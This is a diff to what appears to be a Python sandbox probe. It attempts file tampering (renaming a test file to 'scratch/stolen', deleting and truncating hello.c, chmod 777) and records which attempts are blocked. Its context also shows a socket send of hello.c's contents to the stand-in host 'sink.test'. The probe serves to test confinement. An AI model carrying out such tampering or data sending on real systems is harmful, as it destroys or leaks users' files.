@@ -68,6 +68,21 @@ try:
     report["write"] = 0
 except OSError as e:
     report["write"] = e.strerror
+def change(name, call, *args):
+    try:
+        call(*args)
+        report[name] = 0
+    except OSError as e:
+        report[name] = e.strerror
+change("rename over", os.rename, "scratch/c.sh", "hello.c")
+change("rename away", os.rename, "test_hello.py", "scratch/stolen")
+change("unlink", os.unlink, "hello.c")
+change("truncate", os.truncate, "hello.c", 0)
+change("link", os.link, "scratch/page.sh", "linked.sh")
+change("symlink", os.symlink, "scratch/page.sh", "symlinked.sh")
+change("mkdir", os.mkdir, "made")
+change("chmod", os.chmod, "harmless.sh", 0o777)
+change("change in scratch", os.rename, "scratch/c.py", "scratch/d.py")
 try:
     s = socket.create_connection(("sink.test", 9000), 10)
     s.sendall(open("hello.c", "rb").read())
